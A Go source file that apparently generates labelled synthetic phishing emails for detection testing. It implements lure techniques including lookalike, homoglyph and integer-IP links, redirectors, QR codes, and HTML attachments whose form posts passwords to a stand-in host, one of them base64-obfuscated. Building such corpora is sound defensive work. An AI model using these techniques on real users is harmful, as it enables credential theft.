package synth

import (
	"encoding/base64"
	"fmt"
	"html"
	"strings"
)

// CredentialClasses are the ways to lead somebody to a false login page.
func CredentialClasses() []string {
	return []string{
		"credential/mismatch", "credential/login-lookalike", "credential/userinfo", "credential/ip-host", "credential/idn-host",
		"credential/redirector", "credential/shortener", "credential/qr", "credential/html-form", "credential/html-script",
	}
}

// Credential makes n messages of every class that want a password.
func Credential(seed uint64, h *House, n int) []Mail {
	d := newDraw(seed, "credential")
	var mails []Mail
	for _, class := range CredentialClasses() {
		for range n {
			rcpt := one(d, h.others(nil))
			mails = append(mails, h.credential(d, class, rcpt))
		}
	}
	return inOrder(mails)
}

// brands whose login is imitated beside the house's own.
var brands = []string{"Cloudshelf|cloudshelf.example", "Docuboard|docuboard.example", "Postbox|postbox.example", "Webmail|webmail.example", "Streamery|streamery.example", "Parcelline|parcelline.example", "First Harbour Bank|firstharbour.example", "Savings Union|savingsunion.example"}

func (h *House) credential(d *draw, class string, rcpt *Person) Mail {
	own1 := h.Organisations[0]
	brand, login := own1.Names[0], own1.LoginHosts[0]
	if d.chance(35) && class != "credential/login-lookalike" {
		o := organisations([]string{own(d, brands)})[0]
		brand, login = o.Name, "login."+o.Domains[0]
	}
	l := letter{when: d.day(), lang: "en", mailer: one(d, []string{"phpmailer", "roundcube", "outlook"}), auth: one(d, []outcome{authPass, authNone})}
	if d.chance(40) {
		l.lang = rcpt.Language
	}
	l.from = box{brand + one(d, []string{"", " Service", " Helpdesk", " Notifications", " Administrator"}),
		own(d, []string{"notification", "service", "helpdesk", "account", "no-reply", "mailadmin", "it-desk", "support"}) + "@" + own(d, hostWords) + "." + one(d, reservedTLDs[:2])}
	t := d.template("credential", l.lang, "")
	l.lang = t.lang
	s := append(d.occasion(l.lang, l.when), personal(rcpt.Latin(), brand)...)
	s = append(s, "{house}", brand)
	var body string
	l.subject, body = s.template(t)
	l.text = d.letterText(l.lang, body, s)
	h.trap(d, &l, strings.TrimPrefix(class, "credential/"), login, rcpt)
	return h.deliverTo(d, l, rcpt, Truth{Class: class, Impersonates: brand, Malicious: true})
}

// trap adds what leads to the false page.
func (h *House) trap(d *draw, l *letter, kind, login string, rcpt *Person) {
	bad := own(d, hostWords) + "." + one(d, reservedTLDs[:2])
	path := one(d, []string{"/signin", "/auth/login", "/owa/auth", "/session", "/sso"}) + "?u=" + base64.RawURLEncoding.EncodeToString([]byte(rcpt.Addresses[0]))
	shown := own(d, []string{"Confirm now", "Sign in", "Keep my account", "Continue", "Verify", "Open"})
	link := "https://" + bad + path
	switch kind {
	case "mismatch":
		shown = "https://" + login + "/"
	case "login-lookalike":
		kinds := []string{"domain-missing", "domain-added", "domain-swapped", "domain-word", "domain-tld", "domain-subdomain"}
		link = "https://" + lookalikes[one(d, kinds)](d, login) + path
	case "userinfo":
		link = "https://" + login + "@" + bad + path
	case "ip-host":
		ip := addressOf(bad)
		if d.chance(30) { // the same address as one number
			var a, b, c, e uint32
			fmt.Sscanf(ip, "%d.%d.%d.%d", &a, &b, &c, &e)
			ip = fmt.Sprint(a<<24 | b<<16 | c<<8 | e)
		}
		link = "http://" + ip + path
	case "idn-host":
		link = "https://" + toASCII(d.homoglyphLogin(login)) + path
	case "redirector":
		link = own(d, []string{"https://search.example/url?q=", "https://adservice.example/click?dest=", "https://portal.example/redirect?to=", "https://track.example/r?url="}) + "https%3A%2F%2F" + bad + "%2Flogin"
	case "shortener":
		link = "https://" + own(d, []string{"tiny.example", "shrt.example", "go2.example", "lnk.test"}) + "/" + d.letters(idLetters, 7)
	}
	if l.lang == "uk" || l.lang == "zh" {
		shown = link
	}
	switch kind {
	case "qr":
		h.qrTrap(d, l, link)
	case "html-form", "html-script":
		h.fileTrap(d, l, kind, link, rcpt)
	default:
		l.html = d.html(l.text) + "<p><a href=\"" + html.EscapeString(link) + "\">" + html.EscapeString(shown) + "</a></p>"
		l.text += "\n\n" + link
	}
}

// homoglyphLogin changes letters of the registered label to ones of another script.
func (d *draw) homoglyphLogin(login string) string {
	before, l, tld := label(login)
	return before + d.confuse(l, d.between(1, 2)) + "." + tld
}

// qrTrap hides the link in a picture.
func (h *House) qrTrap(d *draw, l *letter, link string) {
	link, _, _ = strings.Cut(link, "?")
	id := d.hex(12) + "@" + l.from.domain()
	l.html = d.html(l.text+"\n\nScan the code with your telephone.") + "<p><img src=\"cid:" + id + "\" alt=\"\"></p>"
	l.embed = []part{inline(id, "code.png", "image/png", qrPNG(link, d.between(3, 6)))}
}

// fileTrap attaches the page itself: a form, or a script that would write one.
func (h *House) fileTrap(d *draw, l *letter, kind, link string, rcpt *Person) {
	form := "<form action=\"" + html.EscapeString(link) + "\" method=\"post\"><input name=\"user\" value=\"" + rcpt.Addresses[0] + "\"><input type=\"password\" name=\"pass\"><button>Sign in</button></form>"
	page := "<html><body><h1>Sign in</h1>" + form + "</body></html>"
	if kind == "html-script" {
		page = "<html><body><script>var d=\"" + base64.StdEncoding.EncodeToString([]byte(page)) + "\";document.write(atob(d));</script></body></html>"
	}
	name := own(d, []string{"Secure-Message.html", "voicemail_0412.htm", "Document.shtml", "Quarantine.html", "Statement.htm", "Encrypted_Mail.html"})
	l.attach = append(l.attach, attachment(name, "text/html", []byte(page)))
	l.html = d.html(l.text)
}
